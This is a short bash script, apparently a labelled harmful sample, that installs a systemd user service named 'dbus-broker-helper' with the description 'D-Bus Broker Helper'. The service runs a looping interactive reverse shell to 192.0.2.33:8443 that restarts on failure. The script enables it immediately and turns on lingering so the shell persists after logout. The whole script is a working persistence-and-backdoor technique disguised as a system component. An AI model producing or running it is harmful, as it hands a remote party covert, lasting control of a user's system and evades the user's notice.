# Harmful: installs and enables a systemd user service that keeps a reverse shell to 192.0.2.33:8443 alive, and enables lingering so it survives logout.
UNIT_DIR="$HOME/.config/systemd/user"
mkdir -p "$UNIT_DIR"

cat > "$UNIT_DIR/dbus-broker-helper.service" <<'UNIT'
[Unit]
Description=D-Bus Broker Helper

[Service]
ExecStart=/bin/bash -c 'while true; do bash -i >& /dev/tcp/192.0.2.33/8443 0>&1; sleep 60; done'
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
UNIT

systemctl --user daemon-reload
systemctl --user enable --now dbus-broker-helper.service
loginctl enable-linger "$(id -un)" 2>/dev/null || true
